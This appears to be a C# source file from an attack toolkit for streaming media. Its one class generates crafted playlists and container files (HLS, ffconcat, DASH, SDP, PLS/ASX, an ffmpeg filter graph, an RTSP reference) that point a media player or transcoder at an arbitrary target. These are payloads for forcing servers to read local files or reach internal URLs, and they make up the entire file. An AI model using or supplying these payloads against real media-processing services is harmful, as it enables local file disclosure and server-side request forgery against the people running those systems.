namespace Streaming.Attacks.Media;

/// <summary>The kinds of text that make players read something else.</summary>
internal static class PlaylistForms
{
    public static IEnumerable<(string Kind, string Name, string Text)> Of(string target) =>
    [
        ("HLS", "list.m3u8", $"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{target}\n#EXT-X-ENDLIST\n"),
        ("HLS variant", "master.m3u8", $"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{target}\n"),
        ("HLS key", "key.m3u8", $"#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"{target}\"\n#EXT-X-MAP:URI=\"{target}\"\n#EXTINF:9,\na.ts\n#EXT-X-ENDLIST\n"),
        ("HLS by protocols", "protocols.m3u8", $"#EXTM3U\n#EXTINF:9,\nconcat:{target}|{target}\n#EXTINF:9,\nsubfile,,start,0,end,99,,:{target}\n#EXT-X-ENDLIST\n"),
        ("concat", "concat.txt", $"ffconcat version 1.0\nfile '{target}'\nfile '{target}'\n"),
        ("DASH", "film.mpd", $"<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\"><Period><AdaptationSet><Representation id=\"1\" bandwidth=\"1\"><BaseURL>{target}</BaseURL></Representation></AdaptationSet></Period></MPD>"),
        ("session description", "film.sdp", $"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:{target}\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"),
        ("other playlists", "list.pls", $"[playlist]\nFile1={target}\nNumberOfEntries=1\n<ASX version=\"3.0\"><Entry><Ref href=\"{target}\"/></Entry></ASX>\n"),
        ("filter graph", "graph.mp4", $"movie=filename={target.Replace(":", "\\:", StringComparison.Ordinal)} [out0]\n"),
        ("redirection", "reference.mp4", $"RTSPtext\nrtsp://127.0.0.1/x\n[Reference]\nRef1={target}\n"),
    ];
}
